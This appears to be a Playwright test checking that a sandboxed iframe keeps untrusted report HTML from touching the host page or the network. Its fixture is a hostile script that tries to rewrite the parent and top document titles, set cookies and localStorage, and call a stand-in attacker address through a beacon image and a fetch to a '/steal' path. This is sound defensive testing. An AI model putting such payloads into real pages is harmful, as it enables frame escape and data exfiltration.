"""What another library wrote runs in a frame that can reach neither the page around it nor any server."""

from __future__ import annotations

from playwright.sync_api import Page

from mlworkbench.profiling import sandboxed

HOSTILE = """<p id="said">loading</p><img src="http://203.0.113.7/beacon.png"><script>
for (const reach of [() => { parent.document.title = 'owned'; }, () => { top.document.title = 'owned'; },
                     () => { document.cookie = 'owned=1'; }, () => { localStorage.setItem('owned', '1'); }])
    try { reach(); document.title += ' reached'; } catch (refused) { }
fetch('http://203.0.113.7/steal').catch(() => {});
document.getElementById('said').textContent = 'ran' + document.title;
</script>"""


def test_a_hostile_report_reaches_nothing(page: Page, strangers: list[str]) -> None:
    page.set_content("<title>ours</title>" + sandboxed(HOSTILE).replace("<!doctype html>", ""))
    said = page.frame_locator("iframe").locator("#said")
    said.get_by_text("ran", exact=True).wait_for()  # its own script ran, and every reach was refused
    assert page.title() == "ours"
    assert strangers == []  # what its policy did not stop would have been noted here
